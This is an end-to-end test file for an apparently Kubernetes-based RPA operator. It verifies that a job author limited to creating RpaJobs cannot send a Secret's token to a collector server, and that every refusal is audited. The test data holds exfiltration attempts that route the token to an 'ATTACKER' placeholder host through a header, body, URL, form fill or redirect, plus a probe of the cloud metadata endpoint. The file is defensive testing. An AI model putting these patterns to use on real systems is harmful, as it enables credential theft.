// A user who may only create (and get) RpaJobs in a namespace tries to get a Secret's value to a server
// of their choosing — a collector on 127.0.0.1 that records every request — through the operator (in
// this process), a real robot process, the real API server, Postgres and Chromium:
//   (a) a param of an RpaWorkflow that sends the token (the shipped example's shape),
//   (b) an inline workflow: the token in an http header, body or URL, or typed into the user's own page,
//   (c) a redirect from the allowed host to the collector.
// The robot's egress rules allow the collector (the pool lets robots reach both loopback servers), so
// what refuses is the Secret's scope (rpa.aether.dev/credential-scope). On the code before scopes the
// collector received the token in (a), (b) and (c).
import { randomBytes } from 'node:crypto';
import { ApiException, CoreV1Api, CustomObjectsApi, RbacAuthorizationV1Api, type KubeConfig } from '@kubernetes/client-node';
import type { WorkflowSpec } from '../../api/v1alpha1/workflow.js';
import type { Operator } from '../../operator/src/operator.js';
import { eventsFor, objectPath, setUpEnv, startTestOperator, tearDownEnv, waitForObject, type AnyObject, type TestEnv } from '../../operator/src/testing/operator-env.js';
import { startRobot, type RobotProcess } from '../../robot-image/src/agent/testing/robot-process.js';
import { encodings, startRecordingServer, type RecordingServer } from '../../robot-image/src/credscope/testing/recording-server.js';
import { ensureServiceAccount, serviceAccountKubeConfig } from '../harness/kube.js';
import { kubeconfigPath } from '../harness/testenv.js';
import { waitFor } from '../harness/wait.js';

const POOL = 'exfil';
const LONG = 300_000;
const TOKEN = `tok-${randomBytes(16).toString('hex')}`;

/** The RpaWorkflow the namespace's owner wrote: sends the report with the token to `reportApiUrl`. */
const REPORT_WORKFLOW: WorkflowSpec = {
  params: [{ name: 'reportApiUrl', type: 'string', required: true }],
  credentials: [{ name: 'reportApi', keys: ['token'] }],
  steps: [
    {
      id: 'send',
      action: 'http',
      method: 'POST',
      url: '{{ params.reportApiUrl }}',
      headers: { Authorization: 'Bearer {{ credentials.reportApi.token }}' },
      body: '{"report": "nightly"}',
    },
  ],
} as WorkflowSpec;

const inline = (steps: unknown[]): WorkflowSpec => ({ credentials: [{ name: 'reportApi', keys: ['token'] }], timeouts: { stepSeconds: 10 }, steps }) as WorkflowSpec;

async function statusOf(p: Promise<unknown>): Promise<number> {
  try {
    await p;
    return 200;
  } catch (err) {
    if (err instanceof ApiException) return err.code;
    throw err;
  }
}

describe('a user who may only create RpaJobs cannot exfiltrate a Secret (e2e)', () => {
  let env: TestEnv;
  let operator: Operator;
  let robot: RobotProcess;
  let attacker: RecordingServer;
  let allowed: RecordingServer;
  let author: KubeConfig;

  beforeAll(async () => {
    env = await setUpEnv('exfil');
    attacker = await startRecordingServer();
    allowed = await startRecordingServer();
    // The Secret's owner: its token may go in a header to the report API, and be typed into its pages.
    await env.core.createNamespacedSecret({
      namespace: env.namespace,
      body: {
        metadata: {
          name: 'report-api',
          annotations: { 'rpa.aether.dev/credential-scope': `- urlPrefix: ${allowed.origin}/\n  usages: [header, fill]\n` },
        },
        stringData: { token: TOKEN },
      },
    });
    await env.custom.createNamespacedCustomObject({
      ...objectPath('RpaWorkflow', env.namespace, 'report'),
      body: { apiVersion: 'rpa.aether.dev/v1alpha1', kind: 'RpaWorkflow', metadata: { name: 'report', namespace: env.namespace }, spec: REPORT_WORKFLOW },
    });
    // The job author: create and get RpaJobs in this namespace, nothing else.
    const rbac = env.kc.makeApiClient(RbacAuthorizationV1Api);
    await ensureServiceAccount(env.kc, env.namespace, 'job-author');
    await rbac.createNamespacedRole({
      namespace: env.namespace,
      body: { metadata: { name: 'job-author' }, rules: [{ apiGroups: ['rpa.aether.dev'], resources: ['rpajobs'], verbs: ['create', 'get'] }] },
    });
    await rbac.createNamespacedRoleBinding({
      namespace: env.namespace,
      body: {
        metadata: { name: 'job-author' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'job-author' },
        subjects: [{ kind: 'ServiceAccount', name: 'job-author', namespace: env.namespace }],
      },
    });
    author = await serviceAccountKubeConfig(env.kc, env.namespace, 'job-author');
    operator = await startTestOperator(env);
    robot = await startRobot({
      databaseUrl: env.databaseUrl,
      pool: POOL,
      namespace: env.namespace,
      pod: 'robot-exfil-0',
      kubeconfig: kubeconfigPath(),
      // Egress lets the robot reach both servers: the credential scope is what must refuse.
      allow: [new URL(attacker.origin).host, new URL(allowed.origin).host],
    });
  }, LONG);

  afterAll(async () => {
    await robot?.stop();
    await operator?.stop();
    await attacker?.stop();
    await allowed?.stop();
    await tearDownEnv(env);
  }, LONG);

  const createAs = async (name: string, spec: Record<string, unknown>) => {
    const api = author.makeApiClient(CustomObjectsApi);
    await waitFor(
      'the author\'s RoleBinding to take effect',
      async () => {
        try {
          await api.createNamespacedCustomObject({
            ...objectPath('RpaJob', env.namespace, name),
            body: { apiVersion: 'rpa.aether.dev/v1alpha1', kind: 'RpaJob', metadata: { name, namespace: env.namespace }, spec: { pool: POOL, maxAttempts: 3, ...spec } },
          });
          return true;
        } catch (err) {
          if (err instanceof ApiException && err.code === 403) return undefined;
          throw err;
        }
      },
      { timeoutMs: 30_000 },
    );
  };
  const finished = (name: string) =>
    waitForObject(env, 'RpaJob', name, 'finished', (o) => ['Succeeded', 'Failed', 'Cancelled'].includes(o.status?.phase), 150_000);
  const bind = { reportApi: { secretName: 'report-api' } };

  const ATTEMPTS: Array<[string, Record<string, unknown>, string]> = [
    ['a-param', { workflowRef: { name: 'report' }, params: { reportApiUrl: 'ATTACKER/collect' }, credentials: bind }, 'header'],
    ['b-header', { workflow: inline([{ id: 'send', action: 'http', method: 'GET', url: 'ATTACKER/h', headers: { 'x-api-key': '{{ credentials.reportApi.token }}' } }]), credentials: bind }, 'header'],
    ['b-body', { workflow: inline([{ id: 'send', action: 'http', method: 'POST', url: 'ATTACKER/b', body: 't={{ credentials.reportApi.token }}' }]), credentials: bind }, 'body'],
    ['b-url', { workflow: inline([{ id: 'send', action: 'http', method: 'GET', url: 'ATTACKER/u?t={{ credentials.reportApi.token | upper }}' }]), credentials: bind }, 'url'],
    [
      'b-fill',
      {
        workflow: inline([
          { id: 'open', action: 'goto', url: 'ATTACKER/form' },
          { id: 'type', action: 'fill', target: { label: 'Token' }, value: '{{ credentials.reportApi.token }}' },
          { id: 'linger', action: 'waitFor', seconds: 1 },
        ]),
        credentials: bind,
      },
      'fill',
    ],
    [
      'c-redirect',
      {
        workflow: inline([
          { id: 'send', action: 'http', method: 'POST', url: 'ALLOWED/bounce?to=ATTACKER_ENC', headers: { 'x-api-key': '{{ credentials.reportApi.token }}' }, body: 'hello' },
        ]),
        credentials: bind,
      },
      'header',
    ],
  ];

  it(
    'refuses every attempt with CredentialScopeDenied (no retry), and the collector receives nothing',
    async () => {
      // The author cannot simply read the Secret.
      expect(await statusOf(author.makeApiClient(CoreV1Api).readNamespacedSecret({ name: 'report-api', namespace: env.namespace }))).toBe(403);
      const fill = (v: unknown): unknown =>
        JSON.parse(
          JSON.stringify(v)
            .replaceAll('ATTACKER_ENC', encodeURIComponent(`${attacker.origin}/collect`))
            .replaceAll('ATTACKER', attacker.origin)
            .replaceAll('ALLOWED', allowed.origin),
        );
      for (const [name, spec] of ATTEMPTS) await createAs(name, fill(spec) as Record<string, unknown>);
      const results: Record<string, AnyObject> = {};
      for (const [name] of ATTEMPTS) results[name] = await finished(name);

      // The collector got the page the author pointed the browser at, and nothing else: no token in any form.
      await new Promise((r) => setTimeout(r, 1000));
      expect(attacker.received(TOKEN)).toBe(false);
      expect(attacker.requests.map((q) => `${q.method} ${q.url}`)).toEqual(['GET /form']);
      // The redirect's first hop went to the allowed host (in scope); the hop to the collector was refused.
      expect(allowed.requests.map((q) => q.url)).toEqual([`/bounce?to=${encodeURIComponent(`${attacker.origin}/collect`)}`]);

      for (const [name, , usage] of ATTEMPTS) {
        const o = results[name]!;
        expect({ name, phase: o.status!.phase, reason: o.status!.error?.reason, attempts: o.status!.attempts }).toEqual({ name, phase: 'Failed', reason: 'CredentialScopeDenied', attempts: 1 });
        expect(o.status!.error.message).toContain(`credential reportApi (Secret report-api) may not be used for ${usage} at ${new URL(attacker.origin).host}`);
        // `kubectl get events` shows the denial as a Warning on the RpaJob.
        const events = await waitFor(`a CredentialScopeDenied Warning on ${name}`, async () => {
          const e = (await eventsFor(env, name)).filter((x) => x.reason === 'CredentialScopeDenied');
          return e.length > 0 ? e : undefined;
        });
        expect(events[0]!.type).toBe('Warning');
        expect(events[0]!.message).toContain(`Secret report-api) refused for ${usage}`);
      }

      // Each denial is in the audit log with the job, slot, Secret, host and step — and no value anywhere.
      const audit = await env.db.query<{ name: string; details: Record<string, unknown> }>(
        `select name, details from aether.audit_log where action = 'credential.denied' and namespace = $1 order by name`,
        [env.namespace],
      );
      expect(audit.rows.map((r) => r.name)).toEqual(ATTEMPTS.map(([n]) => n).sort());
      for (const r of audit.rows) expect(r.details).toMatchObject({ slot: 'reportApi', secret: 'report-api', host: new URL(attacker.origin).host });
      const everything = JSON.stringify((await env.db.query(`select * from aether.audit_log`)).rows) + JSON.stringify(results) + robot.lines.join('\n');
      for (const form of encodings(TOKEN)) expect(everything).not.toContain(form);
    },
    LONG,
  );

  it(
    'lets the token go where its owner allows it, and audits the use (a row with a count, one Normal Event)',
    async () => {
      allowed.requests.length = 0;
      await createAs('allowed-report', { workflowRef: { name: 'report' }, params: { reportApiUrl: `${allowed.origin}/report` }, credentials: bind });
      const o = await finished('allowed-report');
      expect(o.status!.phase).toBe('Succeeded');
      expect(allowed.requests.find((q) => q.url === '/report')?.headers.authorization).toBe(`Bearer ${TOKEN}`);
      const rows = await waitFor('the credential use in the audit log', async () => {
        const r = await env.db.query<{ actor: string; run_uid: string; details: Record<string, unknown> }>(
          `select actor, run_uid, details from aether.audit_log where action = 'credential.used' and name = 'allowed-report'`,
        );
        return r.rows.length > 0 ? r.rows : undefined;
      });
      expect(rows).toHaveLength(1);
      expect(rows[0]!.actor).toBe('robot/robot-exfil-0');
      expect(rows[0]!.details).toMatchObject({ slot: 'reportApi', secret: 'report-api', usage: 'header', host: new URL(allowed.origin).host, step: 'send', count: 1, source: 'annotation' });
      const used = await waitFor('a CredentialUsed Event', async () => (await eventsFor(env, 'allowed-report')).find((e) => e.reason === 'CredentialUsed'));
      expect(used.type).toBe('Normal');
      expect(JSON.stringify(rows) + used.message).not.toContain(TOKEN);
    },
    LONG,
  );

  it(
    'aggregates the audit of a credential used in a forEach, and audits an egress refusal as a Warning',
    async () => {
      const items = Array.from({ length: 40 }, (_, i) => i);
      await createAs('loop', {
        workflow: {
          params: [{ name: 'items', type: 'list', required: true }],
          credentials: [{ name: 'reportApi', keys: ['token'] }],
          timeouts: { stepSeconds: 10 },
          steps: [
            { id: 'open', action: 'goto', url: `${allowed.origin}/form` },
            { id: 'rows', action: 'forEach', items: 'params.items', steps: [{ id: 'type', action: 'fill', target: { label: 'Token' }, value: '{{ credentials.reportApi.token }}' }] },
          ],
        },
        params: { items },
        credentials: bind,
      });
      // 169.254.169.254 (cloud metadata) is refused by every pool that does not allow it.
      await createAs('metadata', { maxAttempts: 1, workflow: { steps: [{ id: 'peek', action: 'http', method: 'GET', url: 'http://169.254.169.254/latest/meta-data/' }] } });
      expect((await finished('loop')).status!.phase).toBe('Succeeded');
      expect((await finished('metadata')).status!.phase).toBe('Failed');

      const uses = await waitFor('every use of the loop in the audit log', async () => {
        const r = await env.db.query<{ details: { count: number; step: string; usage: string } }>(
          `select details from aether.audit_log where action = 'credential.used' and name = 'loop'`,
        );
        return r.rows.reduce((n, x) => n + x.details.count, 0) === items.length ? r.rows : undefined;
      });
      // 40 uses in a handful of rows (one per 2-second window at most), all of the folded step.
      expect(uses.length).toBeLessThanOrEqual(5);
      expect(new Set(uses.map((u) => u.details.step))).toEqual(new Set(['rows[*].type']));
      const used = (await eventsFor(env, 'loop')).filter((e) => e.reason === 'CredentialUsed');
      expect(used).toHaveLength(1);

      const refused = await waitFor('an EgressRefused Warning', async () => (await eventsFor(env, 'metadata')).find((e) => e.reason === 'EgressRefused'));
      expect(refused.type).toBe('Warning');
      expect(refused.message).toContain('169.254.169.254');
      const rows = await env.db.query<{ details: Record<string, unknown> }>(`select details from aether.audit_log where action = 'egress.refused' and name = 'metadata'`);
      expect(rows.rows).toEqual([{ details: expect.objectContaining({ purpose: 'http', rule: 'link-local', target: '169.254.169.254', count: 1 }) }]);
    },
    LONG,
  );
});
